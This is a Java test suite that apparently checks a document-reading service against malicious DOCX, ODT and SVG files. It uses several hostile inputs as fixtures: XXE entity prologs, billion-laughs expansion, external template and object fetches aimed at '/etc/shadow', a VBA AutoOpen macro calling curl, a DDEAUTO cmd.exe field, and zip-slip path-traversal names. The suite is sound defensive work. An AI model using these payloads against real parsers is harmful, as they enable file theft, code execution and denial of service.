package org.ratsfaden.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.ratsfaden.document.QuarantineReason;
import org.ratsfaden.extraction.Extraction;

class OfficeAttacksTest extends UnderWatch {

    @Test
    void theHarmlessPapersThatAllOthersAreMadeOfAreRead() throws IOException {
        assertThat(wordsOf(read(Package.docx("", Package.paragraph("Beschlussvorlage")))))
                .contains("Beschlussvorlage");
        assertThat(wordsOf(ward.read(
                        "a.odt", Package.odt("", "<text:p>Einladung</text:p>").bytes())))
                .contains("Einladung");
    }

    @Test
    void entitiesInAnyPartOfAPaperAreNotResolved() throws IOException {
        String prolog = entities();
        String words = Package.paragraph("Text &a; &b;");
        assertHarmless(read(Package.docx(prolog, words)));
        for (String part : List.of(
                "[Content_Types].xml",
                "_rels/.rels",
                "word/_rels/document.xml.rels",
                "docProps/core.xml",
                "docProps/app.xml")) {
            assertHarmless(read(Package.docx("", words.replaceAll("&.;", "")).part(part, prolog + "<x>&a;&b;</x>")));
        }
        for (String part : List.of("styles", "numbering", "comments")) {
            assertHarmless(read(Package.docx("", words.replaceAll("&.;", ""))
                    .part("word/_rels/document.xml.rels", Package.relationships("rId1", part, part + ".xml", ""))
                    .part("word/" + part + ".xml", prolog + "<x>&a;&b;</x>")));
        }
        for (String part : List.of("content.xml", "meta.xml", "styles.xml", "settings.xml", "META-INF/manifest.xml")) {
            var paper = Package.odt("", "<text:p>Einladung</text:p>").part(part, prolog + "<x>&a;&b;</x>");
            assertHarmless(ward.read("a.odt", paper.bytes()));
        }
    }

    @Test
    void aThousandMillionLaughsAreNotTold() throws IOException {
        var laughs = new StringBuilder("<!DOCTYPE x [<!ENTITY l0 'ha'>");
        for (int level = 1; level < 12; level++) {
            laughs.append("<!ENTITY l%d '%s'>".formatted(level, ("&l" + (level - 1) + ";").repeat(10)));
        }
        laughs.append("]>");

        assertHarmless(read(Package.docx(laughs.toString(), Package.paragraph("&l11;"))));
        assertHarmless(ward.read(
                "a.odt",
                Package.odt(laughs.toString(), "<text:p>&l11;</text:p>").bytes()));
    }

    @Test
    void templatesPicturesAndObjectsElsewhereAreNotFetched() throws IOException {
        for (String target :
                List.of(canary().address(), canary().fileAddress(), canary().share(), "../../../etc/shadow")) {
            for (String type :
                    List.of("attachedTemplate", "image", "oleObject", "aFChunk", "subDocument", "hyperlink", "frame")) {
                String body = Package.paragraph("Beschluss") + "<w:altChunk r:id='rId1'/><w:subDoc r:id='rId1'/>";
                var paper = Package.docx("", body)
                        .part("word/_rels/document.xml.rels", Package.relationships("rId1", type, target, "External"))
                        .part("word/settings.xml", "<x/>")
                        .part("word/_rels/settings.xml.rels", Package.relationships("rId1", type, target, "External"));
                assertHarmless(read(paper));
            }
            assertHarmless(ward.read(
                    "a.odt",
                    Package.odt(
                                    "",
                                    "<text:section><text:section-source xlink:href='%1$s'/></text:section><draw:frame><draw:image xlink:href='%1$s'/></draw:frame><draw:object xlink:href='%1$s'/>"
                                            .formatted(target))
                            .bytes()));
        }
    }

    @Test
    void macrosAndObjectsWithinAreNotRunAndThePaperAroundThemIsRead() throws IOException {
        var paper = Package.docx("", Package.paragraph("Beschluss") + "<w:object><w:control r:id='rId1'/></w:object>")
                .part("word/vbaProject.bin", "Sub AutoOpen()\nShell \"curl " + canary().address() + "\"\nEnd Sub")
                .part("word/embeddings/oleObject1.bin", "MZ not a program")
                .part(
                        "word/_rels/document.xml.rels",
                        Package.relationships("rId1", "oleObject", "embeddings/oleObject1.bin", ""));
        String field = "<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe \"/c calc\"</w:instrText></w:r></w:p>";

        assertThat(wordsOf(ward.read("a.docm", paper.bytes()))).contains("Beschluss");
        assertHarmless(read(Package.docx("", field + Package.paragraph("Beschluss"))));
    }

    @Test
    void aDrawingWithinAPaperFetchesNothing() throws IOException {
        String svg = entities()
                + "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><text>&a;&b;</text>"
                + "<image xlink:href='" + canary().address() + "'/></svg>";

        assertHarmless(read(Package.docx("", Package.paragraph("Plan")).part("word/media/image1.svg", svg)));
        assertHarmless(ward.read("plan.svg", svg));
        assertHarmless(ward.read("plan.html", svg));
    }

    @Test
    void aMillionElementsWithinEachOtherAreDamageAndNoCrash() throws IOException {
        String deep = "<w:p>".repeat(300_000) + "</w:p>".repeat(300_000);
        String tables = "<w:tbl><w:tr><w:tc>".repeat(50_000) + "</w:tc></w:tr></w:tbl>".repeat(50_000);

        assertHarmless(read(Package.docx("", deep)));
        assertHarmless(read(Package.docx("", tables)));
        assertHarmless(ward.read(
                "a.odt",
                Package.odt("", "<text:span>".repeat(300_000) + "</text:span>".repeat(300_000))
                        .bytes()));
    }

    @Test
    void attributesOfFiftyMegabytesAndHundredThousandOfThemStayWithinTheMemory() throws IOException {
        var many = new StringBuilder("<w:p");
        for (int attribute = 0; attribute < 100_000; attribute++) {
            many.append(" a").append(attribute).append("=''");
        }
        assertHarmless(read(Package.docx("", "<w:p w:x='" + "A".repeat(50_000_000) + "'/>")));
        assertHarmless(read(Package.docx("", many + "/>")));
        assertHarmless(read(Package.docx("", "<w:p><w:r><w:t>" + "Wort ".repeat(10_000_000) + "</w:t></w:r></w:p>")));
    }

    @Test
    void namesThatClimbOutOfThePackageWriteNothingAnywhere() throws IOException {
        Path outside = home.resolve("climbed-out");
        var paper = Package.docx("", Package.paragraph("Beschluss"));
        for (String name : List.of(
                "../../../../../../../.." + outside,
                outside.toString(),
                "..\\..\\climbed-out",
                "C:\\climbed-out",
                "\\\\127.0.0.1\\c$\\climbed-out",
                "word/../../climbed-out",
                "word/\u0000x")) {
            paper.part(name, "written");
        }

        assertHarmless(read(paper));
        assertThat(Files.exists(outside)).isFalse();
    }

    @Test
    void theNameOfAFileIsNoPath() throws IOException {
        byte[] paper = Package.docx("", Package.paragraph("Beschluss")).bytes();

        assertHarmless(ward.read("../../../" + canary().file(), paper));
        assertHarmless(ward.read("a.docx\n\r\0", paper));
        assertRefused(ward.read("x".repeat(100) + "..pdf", paper), QuarantineReason.WRONG_EXTENSION);
    }

    private static String entities() {
        return "<?xml version='1.0'?><!DOCTYPE x SYSTEM '%2$s' [<!ENTITY %% p SYSTEM '%2$s'> %%p; <!ENTITY a SYSTEM '%1$s'><!ENTITY b SYSTEM '%2$s'>]>"
                .formatted(canary().fileAddress(), canary().address());
    }

    private static Extraction read(Package docx) throws IOException {
        return ward.read("paper.docx", docx.bytes());
    }
}
